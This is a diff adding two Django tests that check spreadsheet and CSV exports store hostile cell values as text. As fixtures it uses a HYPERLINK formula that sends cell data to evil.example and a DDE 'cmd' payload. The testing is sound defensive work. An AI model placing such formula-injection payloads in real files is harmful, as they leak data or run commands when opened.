@@ -215,3 +215,49 @@ def test_someone_elses_ledger_is_404(client, bob, alice):
     theirs = ClientFactory(owner=alice)
     client.force_login(bob)
     assert client.get(reverse("grading:ledger", args=[theirs.pk])).status_code == 404
+
+
+def test_excel_export_writes_a_hostile_client_name_as_text_and_a_loss_as_a_number(client, alice):
+    import io
+
+    import openpyxl
+
+    hostile = ClientFactory(owner=alice, code="EV1", name='=HYPERLINK("http://evil.example/?"&A3,"x")')
+    SalesOrder.objects.create(client=hostile, ordered_on=date(2026, 6, 1), amount=Decimal(500), margin=Decimal("-0.2"))
+    services.grading_run(as_of=date(2026, 11, 28))
+    client.force_login(alice)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("grading:export")).content)).active
+    row = next(sheet.iter_rows(min_row=2))
+    assert (row[1].value, row[1].data_type) == ('=HYPERLINK("http://evil.example/?"&A3,"x")', "s")
+    assert (row[10].value, row[10].data_type) == (-100, "n"), "the profit stays a number"
+
+
+@pytest.mark.parametrize(("fmt", "index"), [("csv", 0), ("xlsx", 1)])
+def test_admin_ledger_export_writes_a_hostile_product_as_text_and_a_negative_margin_as_a_number(
+    client, admin_user, fmt, index
+):
+    import csv
+    import io
+
+    import openpyxl
+
+    SalesOrder.objects.create(
+        client=ClientFactory(code="AD1"),
+        ordered_on=date(2026, 6, 1),
+        amount=Decimal(10),
+        margin=Decimal("-0.25"),
+        product="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    client.force_login(admin_user)
+    fields = ["client", "ordered_on", "amount", "quantity", "product", "margin"]
+    response = client.post(
+        reverse("admin:grading_salesorder_export"),
+        {"format": index, "resource": 0, **{f"salesorderresource_{name}": "on" for name in fields}},
+    )
+    if fmt == "csv":
+        row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+        assert (row[4], row[5]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "-0.2500")
+    else:
+        row = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
+        assert (row[4].value, row[4].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
+        assert (row[5].value, row[5].data_type) == (-0.25, "n")
